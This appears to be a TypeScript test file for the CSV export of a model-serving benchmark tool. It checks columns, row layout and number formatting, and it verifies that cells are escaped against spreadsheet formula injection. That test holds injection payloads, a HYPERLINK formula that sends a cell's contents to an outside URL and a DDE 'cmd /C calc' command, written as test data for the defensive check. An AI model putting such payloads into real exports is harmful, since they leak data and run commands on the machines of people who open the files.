import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { combineRepetitions } from '../../../src/core/combineRepetitions.ts';
import type { Phase } from '../../../src/core/plan.ts';
import { makePlan } from '../../../src/core/planning.ts';
import { runRecordSchema, type RunRecord, type TopologyResult } from '../../../src/core/record.ts';
import { searchEnds } from '../../../src/core/sloSearch.ts';
import { csvColumns, recordCsv } from '../../../src/core/view/csv.ts';
import { csvText } from '../../../src/core/view/csvText.ts';
import { choices } from '../../support/choices.ts';
import { parseCsv } from '../../support/csv.ts';
import { sampleEndpointRecord } from '../../support/sampleEndpoint.ts';
import { failedResult, samplePhase, samplePlan, sampleRecord } from '../../support/sampleRecord.ts';

type Row = Readonly<Record<string, string>>;

async function rowsOf(record: RunRecord): Promise<Row[]> {
  const [header = [], ...rows] = await parseCsv(recordCsv(record));
  expect(header).toEqual(csvColumns);
  return rows.map((cells) => {
    expect(cells).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, at) => [name, cells[at] ?? '']));
  });
}

function onlyRow(rows: readonly Row[], topology: string, level: string): Row {
  const found = rows.filter((row) => row['topology'] === topology && row['level'] === level);
  expect(found).toHaveLength(1);
  return found[0] ?? {};
}

/** Three turns of each topology, the second one of which is not valid for Triton. */
function repeated(): RunRecord {
  const plan = samplePlan();
  const bad = { valid: false, reasons: ['the load generator was late'], caveats: [] };
  return sampleRecord({
    plan: { ...plan, load: { ...plan.load, repetitions: 3 } },
    change: (result): TopologyResult => {
      const phases = [1, 2, 3].flatMap((repetition) =>
        plan.load.phases.map((phase, index) => {
          const measured = { ...samplePhase(plan, result.topology, phase, 10 * repetition + index), repetition };
          return result.topology.name === 'triton' && repetition === 2 ? { ...measured, validity: bad } : measured;
        }),
      );
      return { ...result, phases, combined: combineRepetitions(phases) };
    },
  });
}

const openPhase = (ratePerSecond: number): Phase => ({
  name: `at ${String(ratePerSecond)}/s`,
  kind: 'measured',
  loop: 'open',
  ratePerSecond,
  arrivals: 'poisson',
  maxInFlight: 64,
  durationSeconds: 5,
});

describe('a record as CSV', () => {
  it('has a row for each topology and level, with the numbers of the record in full', async () => {
    const record = sampleRecord();
    const rows = await rowsOf(record);
    expect(rows.map(({ topology, level, turn }) => [topology, level, turn])).toEqual(
      ['fastapi', 'triton', 'hybrid'].flatMap((topology) => ['c1', 'c8', 'c32'].map((level) => [topology, level, '1'])),
    );
    const row = onlyRow(rows, 'hybrid', 'c32');
    const phase = record.topologies[2]?.phases.find(({ name }) => name === 'c32');
    if (phase === undefined || phase.intervals === 'not yet computed' || 'unknown' in phase.intervals.p95Ms)
      throw new Error('The sample has no such phase.');
    const { measurement, intervals, split } = phase;
    expect(row).toMatchObject({
      run_id: record.id,
      started_at: '2026-01-02T09:30:00.000Z',
      subject: 'tiny-sentiment',
      profile: 'quick',
      target: 'kubernetes',
      load_from: 'in-cluster',
      status: 'completed',
      failure: '',
      loop: 'closed',
      connections: '32',
      rate_per_s: '',
      seconds: '5',
      valid: 'true',
      reasons: '',
      p50_ms: String(measurement.latency.p50Ms),
      p95_ms: String(measurement.latency.p95Ms),
      p95_low_ms: String(phase.intervals.p95Ms.low),
      p95_high_ms: String(phase.intervals.p95Ms.high),
      rps: String(measurement.rps),
      interval_method: 'circular block bootstrap over time',
      gpus: '1',
      gpu_use: 'used',
      sent: String(measurement.requests.sent),
      in_flight_at_end: '32',
      server_count: String(phase.serverCount),
      triton_executions: String(phase.batching?.executions),
      split_client_ms: String(split?.clientMs),
      split_deidentify_ms: String(split?.gateway?.deidentifyMs),
      generator_cpu_s: '1.5',
      generator_stalled_ms: '0',
      generator_late_sends: '',
      generators: '1',
    });
    expect(Number(row['p95_ms'])).toBe(measurement.latency.p95Ms);
    expect('unknown' in intervals.p99Ms ? row['no_interval'] : row['p99_low_ms']).toBe(
      'unknown' in intervals.p99Ms ? `p99: ${intervals.p99Ms.unknown}` : String(intervals.p99Ms.low),
    );
    // A topology without a gateway has no share of one, which is not 0.
    expect(onlyRow(rows, 'triton', 'c32')).toMatchObject({ split_gateway_ms: '', split_deidentify_ms: '' });
    expect(onlyRow(rows, 'fastapi', 'c32')).toMatchObject({ triton_executions: '', mean_batch: '' });
  });

  it('ends each line with CRLF, the last one too, and names units in its header', () => {
    const text = recordCsv(sampleRecord());
    expect(text.split('\r\n')).toHaveLength(1 + 9 + 1);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    expect(csvColumns).toEqual(expect.arrayContaining(['p50_ms', 'p95_low_ms', 'rps_high', 'generator_cpu_s']));
    expect(new Set(csvColumns).size).toBe(csvColumns.length);
  });

  it('has a row for all turns together, and one for each', async () => {
    const record = repeated();
    const rows = (await rowsOf(record)).filter(({ topology, level }) => topology === 'triton' && level === 'c8');
    expect(rows.map(({ turn, valid }) => [turn, valid])).toEqual([
      ['combined', 'true'],
      ['1', 'true'],
      ['2', 'false'],
      ['3', 'true'],
    ]);
    const [combined, , second] = rows;
    const all = record.topologies[1]?.combined?.find(({ name }) => name === 'c8');
    expect(combined).toMatchObject({
      rps: String(all?.measurement.rps),
      interval_method: "Student's t of the geometric mean of repetitions",
      caveats: expect.stringContaining('left out: repetition 2: the load generator was late') as string,
    });
    expect(second).toMatchObject({ reasons: 'the load generator was late' });
  });

  it('says of a topology without numbers why it has none', async () => {
    const record = sampleRecord({
      change: (result) => (result.topology.name === 'triton' ? failedResult(result) : result),
      record: { status: 'failed' },
    });
    const rows = await rowsOf(record);
    expect(rows).toHaveLength(9);
    expect(onlyRow(rows, 'triton', 'c8')).toMatchObject({
      status: 'failed',
      turn: '',
      valid: 'false',
      reasons: expect.stringContaining('last log line "loading model"') as string,
      p95_ms: '',
      rps: '',
      sent: '',
    });
  });

  it('has what a search for a rate found: of each turn its own, of all together the lowest, and none of other runs', async () => {
    const plan = makePlan({ ...choices, profile: 'server', repetitions: 2, topologies: ['triton'], sloP95Ms: 50 });
    const [missed] = searchEnds;
    const searched = (rates: readonly (number | null)[]): RunRecord =>
      sampleRecord({
        plan,
        change: (result) => {
          const phases = rates.flatMap((rate, at) =>
            [900, ...(rate === null ? [] : [rate])].map((ratePerSecond, index) => ({
              ...samplePhase(plan, result.topology, openPhase(ratePerSecond), index),
              repetition: at + 1,
            })),
          );
          const searches: TopologyResult['searches'] = rates.map((rate) => ({
            ratePerSecond: rate,
            because: rate === null ? 'no rate was confirmed' : missed,
            doubts: [],
            confident: null,
          }));
          return { ...result, phases, combined: combineRepetitions(phases), searches };
        },
      });
    const found = async (rates: readonly (number | null)[]): Promise<Set<string>> =>
      new Set(
        (await rowsOf(searched(rates))).map(
          ({ turn, slo_p95_ms: bound, found_rate_per_s: rate, found_because: because }) =>
            [turn, bound, rate, because].join(' '),
        ),
      );
    expect(await found([300, 200])).toEqual(
      new Set([`combined 50 200 ${missed}`, `1 50 300 ${missed}`, `2 50 200 ${missed}`]),
    );
    // The last one is of the confirmation, which has no numbers.
    expect(await found([300, null])).toEqual(
      new Set([
        `combined 50  ${missed} | no rate was confirmed`,
        `1 50 300 ${missed}`,
        '2 50  no rate was confirmed',
        ` 50  ${missed} | no rate was confirmed`,
      ]),
    );
    const [plain] = await rowsOf(sampleRecord());
    expect(plain).toMatchObject({ slo_p95_ms: '', found_rate_per_s: '', found_because: '' });
  });

  it('is made of a run on an endpoint, and of a record from before there were intervals and splits', async () => {
    const endpoint = await rowsOf(sampleEndpointRecord());
    expect(endpoint[0]).toMatchObject({ subject: 'checkout', topology: 'endpoint', gpus: '0', gpu_use: 'none' });
    const old = join(import.meta.dirname, '../runs/record-v1.json');
    const first = runRecordSchema.parse(JSON.parse(await readFile(old, 'utf8')));
    const [row] = await rowsOf(first);
    expect(row).toMatchObject({ split_mean_ms: '', p50_low_ms: '', no_interval: 'not yet computed' });
  });

  it('holds no text that a spreadsheet would run, whatever a server said', async () => {
    const nasty = '=HYPERLINK("https://example.org/?"&A1,"x");=1+1,@SUM(1)\r\n+cmd|\' /C calc\'!A0;"=2+2";  =3+3';
    const record = sampleRecord({
      change: (result) => ({
        ...failedResult(result),
        failure: { reason: 'pod-failed', message: nasty, nextStep: null },
      }),
    });
    // Whatever a spreadsheet takes for the end of a cell, quoted or not.
    const pieces = recordCsv(record).split(/[,;\t\r\n]/u);
    expect(pieces.filter((piece) => /^["\s]*[=+@]/u.test(piece))).toEqual([]);
    const [row] = await rowsOf(record);
    expect(row?.['failure']).toBe(
      "'=HYPERLINK(\"https://example.org/?\"&A1,\"x\");'=1+1,'@SUM(1)\r\n'+cmd|' /C calc'!A0;'\"=2+2\";'  =3+3",
    );
  });

  it('has each of its columns explained', async () => {
    const page = await readFile(join(import.meta.dirname, '../../../docs/export.md'), 'utf8');
    const explained = [...page.matchAll(/`([a-z0-9_]+)`/gu)].map(([, name]) => name);
    expect(csvColumns.filter((name) => !explained.includes(name))).toEqual([]);
  });
});

describe('cells', () => {
  it('come out of a reader as they went in', async () => {
    const texts = [
      '',
      'a',
      'a,b',
      'a;b',
      'a\tb',
      '"',
      '"a"',
      'a\r\nb',
      'a\nb',
      ' a ',
      'p95 – µs',
      '100%',
      "it's",
      '1-2',
    ];
    expect(await parseCsv(csvText([texts, ['x', ...texts.slice(1)]]))).toEqual([texts, ['x', ...texts.slice(1)]]);
  });

  it('that are numbers stay numbers, below zero too', () => {
    expect(csvText([[-0.03125, 1e-7, 0, -0, 12345678.901234567, true, null]])).toBe(
      '-0.03125,1e-7,0,0,12345678.901234567,true,\r\n',
    );
  });

  it.each(['=1', '+1', '-1', '@x', ' =1', '\tx', '\rx', '\nx', '＝1', '＋1', '－1', '＠x'])(
    'that are texts and begin like a formula (%j) get an apostrophe before it',
    async (text) => {
      expect(await parseCsv(csvText([['a', text]]))).toEqual([['a', `'${text}`]]);
    },
  );

  it('keep what only looks like a formula further in', () => {
    expect(csvText([['a = b', 'x - 5 ms', 'a|=b']])).toBe('a = b,x - 5 ms,a|=b\r\n');
  });
});
